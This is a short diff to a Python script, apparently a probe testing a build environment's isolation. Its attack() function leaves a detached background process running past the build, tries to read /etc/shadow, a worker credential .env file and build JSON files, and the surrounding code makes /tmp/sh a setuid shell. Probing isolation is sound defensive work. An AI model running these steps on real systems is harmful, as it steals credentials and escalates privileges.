@@ -33,7 +33,9 @@ def setuid():
     Path("/tmp/sh").chmod(0o4755)
 
 def attack():
-    subprocess.Popen(["sleep", "7777"], start_new_session=True)
+    # Not the pipes of the build, which would wait for their end.
+    nowhere = {"stdin": subprocess.DEVNULL, "stdout": subprocess.DEVNULL, "stderr": subprocess.DEVNULL}
+    subprocess.Popen(["sleep", "7777"], start_new_session=True, **nowhere)
     said = [f"account {pwd.getpwuid(os.getuid()).pw_name}"]
     for path in ("/etc/shadow", "/etc/biocirv/prefect-worker.env", *Path("/opt/biocirv/build").glob("*.json")):
         said.append(attempt(f"read {path}", lambda: Path(path).read_bytes()))
